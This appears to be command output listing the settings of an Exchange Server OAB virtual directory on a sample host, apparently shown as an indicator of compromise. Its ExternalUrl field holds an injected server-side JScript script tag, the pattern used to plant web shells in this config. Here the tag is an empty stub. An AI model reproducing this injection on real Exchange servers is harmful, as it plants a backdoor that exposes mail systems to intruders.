
Name                            : OAB (Default Web Site)
PollInterval                    : 720
OfflineAddressBooks             : 
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EX01.contoso.local/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : 
Server                          : EX01
InternalUrl                     : https://ex01.contoso.local/OAB
InternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
ExternalUrl                     : http://k/<script language="JScript" runat="server">function Page_Load(){}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated, OAuth}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Identity                        : EX01\OAB (Default Web Site)


